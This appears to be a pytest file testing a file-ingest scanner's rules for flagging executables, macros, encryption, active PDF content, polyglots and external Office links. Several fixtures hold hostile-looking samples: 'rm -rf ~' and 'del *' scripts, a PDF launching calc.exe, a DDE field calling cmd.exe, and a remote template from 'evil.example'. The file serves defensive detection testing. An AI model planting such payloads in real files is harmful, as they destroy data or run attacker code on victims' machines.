"""The content rules, one by one, on small hand-built samples (no hostile files in this process).

`compute_flags` is pure, so these tests call it directly with the MIME type and description
libmagic would give; the corpus tests check the same rules end to end through the sandbox.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from vault.ingest.detect_magic import RECHECK_EVERY, TRUST_AFTER, MimeMemo
from vault.ingest.detect_model import Detection, Sample, escape_text
from vault.ingest.flags import (
    ENCRYPTED,
    EXECUTABLE,
    EXTENSION_MISMATCH,
    FLAGS,
    MACROS,
    OFFICE_EXTERNAL,
    PDF_ACTIVE,
    POLYGLOT,
    TYPE_UNKNOWN,
)
from vault.ingest.flags_rules import compute_flags
from vault.ingest.flags_types import extension_of
from vault.ingest.sandbox_protocol import ProtocolError, encode_result, parse_reply

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZIP = "application/zip"


def flags(name: str, data: bytes, mime: str, description: str = "") -> frozenset[str]:
    return compute_flags(name, data, data[-65536:], len(data), mime, description)


def make_zip(members: dict[str, bytes], *, encrypt: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    raw = bytearray(buffer.getvalue())
    if encrypt is not None:  # set the encryption bit on one member, local and central
        for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = raw.find(signature + b"", 0)
            while pos >= 0:
                name_at = pos + (30 if signature == b"PK\x03\x04" else 46)
                if raw[name_at : name_at + len(encrypt)] == encrypt.encode():
                    raw[pos + flag_at] |= 1
                pos = raw.find(signature, pos + 4)
    return bytes(raw)


def ooxml(extra: dict[str, bytes]) -> bytes:
    return make_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", **extra})


def ole(entries: list[tuple[str, int]], body: bytes = b"") -> bytes:
    """An OLE2 header, then one directory sector naming `entries` (name, type)."""
    header = bytearray(512)
    header[:8] = OLE_MAGIC
    struct.pack_into("<H", header, 0x1E, 9)
    directory = bytearray()
    for name, kind in entries:
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), kind)
        directory += entry
    return bytes(header + directory + body)


# -- executable --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "head",
    [
        b"\x7fELF\x02\x01\x01" + bytes(60),
        b"\xcf\xfa\xed\xfe" + bytes(28),
        b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(8),
        b"\x00asm\x01\x00\x00\x00",
        b"MZ" + bytes(0x3A) + struct.pack("<I", 0x40) + b"PE\x00\x00" + bytes(20),
        b"#!/bin/sh\nrm -rf ~\n",
        b"\xef\xbb\xbf#! /usr/bin/env python3\n",
        b"@ECHO OFF\r\ndel *\r\n",
        b"<html><head><HTA:APPLICATION ID=x></head></html>",
    ],
)
def test_programs_are_executable_whatever_their_name(head: bytes) -> None:
    assert EXECUTABLE in flags("report", head, "application/octet-stream")


@pytest.mark.parametrize("name", ["run.bat", "x.CMD", "a.ps1", "b.vbs", "c.js", "d.hta"])
def test_script_extensions_are_executable(name: str) -> None:
    assert EXECUTABLE in flags(name, b"echo hello\n", "text/plain")


def test_script_named_by_libmagic_is_executable() -> None:
    description = "Perl script text executable"
    assert EXECUTABLE in flags("notes", b"print 1;\n", "text/plain", description)


def test_text_and_images_are_not_executable() -> None:
    assert EXECUTABLE not in flags("a.txt", b"MZ is a fine pair of letters\n", "text/plain")
    exif = "JPEG image data, Exif standard: [DOS executable (block device driver)]"
    assert EXECUTABLE not in flags("a.jpg", b"\xff\xd8\xff\xe1", "image/jpeg", exif)


# -- macros ------------------------------------------------------------------------------------


def test_ooxml_with_vba_project_has_macros() -> None:
    assert MACROS in flags("a.docx", ooxml({"word/vbaProject.bin": b"x"}), ZIP)
    assert MACROS in flags("a.xlsx", ooxml({"xl/macrosheets/sheet1.xml": b"x"}), ZIP)
    assert MACROS not in flags("a.docx", ooxml({}), ZIP)


def test_macro_enabled_content_type_has_macros_but_xlsb_does_not() -> None:
    docm = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    xlsb = b'<Override ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
    assert MACROS in flags("a.bin", make_zip({"[Content_Types].xml": docm}), ZIP)
    assert MACROS not in flags("a.xlsb", make_zip({"[Content_Types].xml": xlsb}), ZIP)


def test_odf_basic_module_has_macros_but_an_empty_library_does_not() -> None:
    basic = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    empty = make_zip({**basic, "Basic/Standard/script-lb.xml": b"x"})
    module = make_zip({**basic, "Basic/Standard/Module1.xml": b"x"})
    odt = "application/vnd.oasis.opendocument.text"
    assert MACROS not in flags("a.odt", empty, odt)
    assert MACROS in flags("a.odt", module, odt)


@pytest.mark.parametrize("entry", ["_VBA_PROJECT", "_VBA_PROJECT_CUR", "VBA", "Macros"])
def test_ole_vba_storage_has_macros(entry: str) -> None:
    assert MACROS in flags("a.doc", ole([("Root Entry", 5), (entry, 1)]), "application/msword")


def test_ole_name_off_the_directory_grid_is_not_an_entry() -> None:
    shifted = ole([("Root Entry", 5)]) + b"\x00\x00" + ole([("Macros", 1)])[512:]
    assert MACROS not in flags("a.doc", shifted, "application/msword")


# -- encrypted ---------------------------------------------------------------------------------


def test_zip_member_with_encryption_bit_is_encrypted() -> None:
    data = make_zip({"a.txt": b"x", "secret.txt": b"y"}, encrypt="secret.txt")
    assert ENCRYPTED in flags("a.zip", data, ZIP)
    assert ENCRYPTED not in flags("a.zip", make_zip({"a.txt": b"x"}), ZIP)


def test_encrypted_ooxml_in_ole_is_encrypted_and_fits_its_extension() -> None:
    data = ole([("Root Entry", 5), ("EncryptionInfo", 2), ("EncryptedPackage", 2)])
    found = flags("a.docx", data, "application/encrypted", "CDFV2 Encrypted")
    assert ENCRYPTED in found
    assert EXTENSION_MISMATCH not in found


def test_pdf_encrypt_dictionary_in_trailer_is_encrypted() -> None:
    pdf = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer << /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n"
    assert ENCRYPTED in flags("a.pdf", pdf, "application/pdf")
    assert ENCRYPTED not in flags("a.pdf", pdf.replace(b"/Encrypt", b"/Info"), "application/pdf")


def test_odf_manifest_with_encryption_data_is_encrypted() -> None:
    manifest = b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    data = make_zip({"mimetype": b"x", "META-INF/manifest.xml": manifest})
    assert ENCRYPTED in flags("a.odt", data, "application/vnd.oasis.opendocument.text")


def test_seven_zip_with_aes_coder_in_end_header_is_encrypted() -> None:
    end_header = b"\x17\x06\x00\x0b\x01\x24\x06\xf1\x07\x01\x0a"
    head = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(4) + struct.pack("<QQ", 10, len(end_header))
    data = head + bytes(4) + bytes(10) + end_header
    assert ENCRYPTED in flags("a.7z", data, "application/x-7z-compressed")
    plain = data.replace(b"\x06\xf1\x07\x01", b"\x03\x01\x01\x00")
    assert ENCRYPTED not in flags("a.7z", plain, "application/x-7z-compressed")


@pytest.mark.parametrize(
    "data",
    [
        b"Rar!\x1a\x07\x01\x00" + b"\x00" * 4 + b"\x05\x04\x00",  # RAR5 archive encryption header
        b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x73, 0x0080, 13) + bytes(6),
        b"Rar!\x1a\x07\x00"
        + struct.pack("<HBHH", 0, 0x73, 0, 13)
        + bytes(6)
        + struct.pack("<HBHH", 0, 0x74, 0x8004, 32)
        + bytes(30),
    ],
)
def test_rar_with_encrypted_headers_or_files_is_encrypted(data: bytes) -> None:
    assert ENCRYPTED in flags("a.rar", data, "application/x-rar")


@pytest.mark.parametrize(
    "data",
    [
        b"age-encryption.org/v1\n-> X25519 abc\n",
        b"From: a@example.org\nContent-Type: multipart/encrypted; protocol=x\n\nbody",
        b'Content-Type: application/pkcs7-mime; smime-type="enveloped-data"\n\nMIAG',
        b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n",
        b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80",
    ],
)
def test_encrypted_messages_are_encrypted(data: bytes) -> None:
    assert ENCRYPTED in flags("message", data, "text/plain")


def test_mail_that_only_mentions_encryption_is_not_encrypted() -> None:
    mail = b"From: a@example.org\nSubject: encrypted?\n\nWe should use multipart/encrypted.\n"
    assert ENCRYPTED not in flags("a.eml", mail, "message/rfc822")


# -- pdf-active --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /Type /Action /S /Launch /F (calc.exe) >>",
        b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
        b"<< /AcroForm << /XFA 7 0 R >> >>",
        b"<< /Annots [<< /Subtype /RichMedia >>] >>",
        b"<< /AA << /O 4 0 R >> >>",
        b"<< /J#61vaScript 4 0 R >>",  # name hidden with a #xx escape
        b"<< /OpenAction << /S /URI /URI (http://example.org/) >> >>",
    ],
)
def test_active_pdf_content_is_flagged(body: bytes) -> None:
    pdf = b"%PDF-1.7\n1 0 obj " + body + b" endobj\n%%EOF\n"
    assert PDF_ACTIVE in flags("a.pdf", pdf, "application/pdf")


def test_open_at_page_destinations_are_not_active() -> None:
    inline = b"%PDF-1.5\n1 0 obj << /OpenAction [3 0 R /XYZ null null 0] >> endobj\n%%EOF"
    goto = b"%PDF-1.5\n1 0 obj << /OpenAction 9 0 R >> endobj\n9 0 obj << /S /GoTo /D [3 0 R] >>"
    assert PDF_ACTIVE not in flags("a.pdf", inline, "application/pdf")
    assert PDF_ACTIVE not in flags("a.pdf", goto, "application/pdf")
    javascript = goto.replace(b"/S /GoTo /D [3 0 R]", b"/S /JavaScript")
    assert PDF_ACTIVE in flags("a.pdf", javascript, "application/pdf")


def test_names_inside_compressed_object_streams_are_seen() -> None:
    objects = zlib.compress(b"4 0 << /Type /Annot /Subtype /RichMedia >>")
    dictionary = b"<< /Filter /FlateDecode /Type /ObjStm /N 1 /First 4 /Length "
    pdf = (
        b"%PDF-1.7\n5 0 obj "
        + dictionary
        + str(len(objects)).encode()
        + b" >>\nstream\n"
        + objects
        + b"\nendstream endobj\n%%EOF"
    )
    assert PDF_ACTIVE in flags("a.pdf", pdf, "application/pdf")
    assert PDF_ACTIVE not in flags("a.pdf", pdf.replace(b"/ObjStm", b"/XObject"), "application/pdf")


# -- polyglot ----------------------------------------------------------------------------------


def test_pe_carrying_a_pdf_header_is_a_polyglot() -> None:
    pe = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x40) + b"PE\x00\x00" + bytes(100)
    assert POLYGLOT in flags(
        "a.exe", pe + b"%PDF-1.4\n" + bytes(50) + b"%%EOF", "application/x-dosexec"
    )
    assert POLYGLOT not in flags("a.exe", pe, "application/x-dosexec")


def test_pdf_ending_in_a_zip_is_a_polyglot_but_legacy_office_themes_are_not() -> None:
    pdf = b"%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF\n"
    assert POLYGLOT in flags("a.pdf", pdf + make_zip({"a.txt": b"x"}), "application/pdf")
    embedded = ole([("Root Entry", 5)]) + make_zip({"theme/theme1.xml": b"x"}) + bytes(4096)
    assert POLYGLOT not in flags("a.doc", embedded, "application/msword")


def test_html_in_an_image_header_is_a_polyglot() -> None:
    gif = b"GIF89a\x01\x00\x01\x00<script>alert(1)</script>"
    assert POLYGLOT in flags("a.gif", gif, "image/gif")
    assert POLYGLOT not in flags("a.html", b"<html><script></script></html>", "text/html")


# -- office-external ---------------------------------------------------------------------------


def test_external_template_relationship_is_office_external() -> None:
    rels = (
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/>'
    )
    data = ooxml({"word/_rels/settings.xml.rels": rels})
    assert OFFICE_EXTERNAL in flags("a.docx", data, ZIP)


def test_external_hyperlink_is_not_office_external() -> None:
    rels = (
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>'
    )
    assert OFFICE_EXTERNAL not in flags(
        "a.docx", ooxml({"word/_rels/document.xml.rels": rels}), ZIP
    )


def test_dde_field_split_across_runs_is_office_external() -> None:
    document = (
        b"<w:document><w:r><w:instrText> DD</w:instrText></w:r>"
        b'<w:r><w:instrText>EAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r></w:document>'
    )
    data = make_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": document})
    assert OFFICE_EXTERNAL in flags("a.docx", data, ZIP)


def test_external_workbook_links_and_rtf_links_are_office_external() -> None:
    assert OFFICE_EXTERNAL in flags(
        "a.xlsx", ooxml({"xl/externalLinks/externalLink1.xml": b""}), ZIP
    )
    rtf = b"{\\rtf1{\\object\\objautlink{\\*\\objclass Word.Document.8}}}"
    assert OFFICE_EXTERNAL in flags("a.rtf", rtf, "text/rtf")


# -- extension-mismatch ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "mime", "data", "mismatch"),
    [
        ("a.pdf", "text/plain", b"hello", True),
        ("a.PDF", "application/pdf", b"%PDF-1.4", False),
        ("a.jpg", "image/png", b"\x89PNG", True),
        ("a.txt", "text/plain", b"hello", False),
        ("a.txt", "application/x-dosexec", b"MZ", True),
        ("a.unknownext", "application/x-dosexec", b"MZ", False),
        ("noextension", "application/pdf", b"%PDF", False),
        ("a.odt", "text/plain", b"not a zip", True),
        ("empty.pdf", "application/x-empty", b"", False),
    ],
)
def test_extension_must_fit_detected_type(
    name: str, mime: str, data: bytes, mismatch: bool
) -> None:
    assert (EXTENSION_MISMATCH in flags(name, data, mime)) is mismatch


def test_ooxml_extension_needs_a_package_index() -> None:
    assert EXTENSION_MISMATCH not in flags("a.xlsx", ooxml({}), "application/octet-stream")
    assert EXTENSION_MISMATCH in flags("a.xlsx", make_zip({"a.txt": b"x"}), ZIP)


def test_extension_of_takes_the_last_suffix_only() -> None:
    assert extension_of("archive.tar.GZ") == "gz"
    assert extension_of(".bashrc") == ""
    assert extension_of("dir.d/readme") == ""
    assert extension_of("report.pdf.exe") == "exe"


# -- values and the wire -------------------------------------------------------------------------


def test_every_flag_has_an_explanation() -> None:
    assert all(name and text and "\n" not in text for name, text in FLAGS.items())
    assert TYPE_UNKNOWN in FLAGS


def test_escape_text_neutralises_terminal_controls() -> None:
    assert escape_text("a\x1b[2Jb\x07\u202e") == "a\\x1b[2Jb\\x07\\u202e"
    assert len(escape_text("x" * 5000)) == 1024


def test_sample_refuses_oversized_parts() -> None:
    with pytest.raises(ValueError, match="1 MiB"):
        Sample("a", bytes(1024 * 1024 + 1), b"", 1024 * 1024 + 1)
    with pytest.raises(ValueError, match="smaller"):
        Sample("a", b"abc", b"abc", 2)


def test_reply_round_trip_and_refusals() -> None:
    detection = Detection("application/pdf", "PDF document", frozenset({PDF_ACTIVE}))
    assert parse_reply(encode_result(7, detection)).detection == detection
    forged = encode_result(7, Detection("application/pdf", "x", frozenset({"run-me"})))
    with pytest.raises(ProtocolError):
        parse_reply(forged)
    with pytest.raises(ProtocolError):
        parse_reply(encode_result(7, detection) + b"trailing")
    with pytest.raises(ProtocolError):
        parse_reply(b"P" + bytes(20))


# -- the worker's MIME memo ---------------------------------------------------------------------


def test_mime_memo_trusts_only_repeated_text_answers() -> None:
    memo = MimeMemo()
    description = "ASCII text, with CRLF line terminators"
    for _ in range(TRUST_AFTER):
        assert memo.get(description) is None
        memo.learn(description, "text/plain")
    assert memo.get(description) == "text/plain"
    for _ in range(TRUST_AFTER + 1):
        memo.learn("PDF document, version 1.7", "application/pdf")
    assert memo.get("PDF document, version 1.7") is None  # binary types are always asked


def test_mime_memo_bans_a_description_that_contradicts_itself() -> None:
    memo = MimeMemo()
    for _ in range(TRUST_AFTER):
        memo.learn("ASCII text", "text/plain")
    memo.learn("ASCII text", "text/x-shellscript")
    for _ in range(TRUST_AFTER + 1):
        memo.learn("ASCII text", "text/plain")
    assert memo.get("ASCII text") is None


def test_mime_memo_rechecks_periodically() -> None:
    memo = MimeMemo()
    for _ in range(TRUST_AFTER):
        memo.learn("ASCII text", "text/plain")
    answers = [memo.get("ASCII text") for _ in range(RECHECK_EVERY)]
    assert answers.count(None) == 1


def test_encryption_is_read_from_libmagic_words_not_from_quoted_titles() -> None:
    assert ENCRYPTED in flags("a.bin", b"x", "application/octet-stream", "LUKS encrypted file")
    cdf = "Composite Document File V2 Document, Title: Encrypted, Security: 1"
    assert ENCRYPTED in flags("a.doc", b"x", "application/msword", cdf)
    quoted = "Composite Document File V2 Document, Title: How we encrypted it, Security: 0"
    assert ENCRYPTED not in flags("a.doc", b"x", "application/msword", quoted)
